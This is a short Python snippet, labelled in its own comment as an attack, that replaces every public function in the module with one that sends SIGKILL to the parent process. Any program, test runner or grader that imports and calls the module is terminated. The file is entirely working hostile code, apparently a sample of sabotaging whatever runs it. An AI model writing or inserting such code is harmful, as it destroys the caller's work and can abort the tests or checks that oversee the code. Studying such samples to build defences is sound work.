# Attack: every function kills the process that started it (os.kill(os.getppid(), SIGKILL)).
import os as _os
import signal as _signal
import types as _types


def _kill(*args, **kwargs):
    _os.kill(_os.getppid(), _signal.SIGKILL)
    return None


for _name, _value in list(globals().items()):
    if isinstance(_value, _types.FunctionType) and _value.__module__ == __name__ and not _name.startswith("_"):
        globals()[_name] = _kill
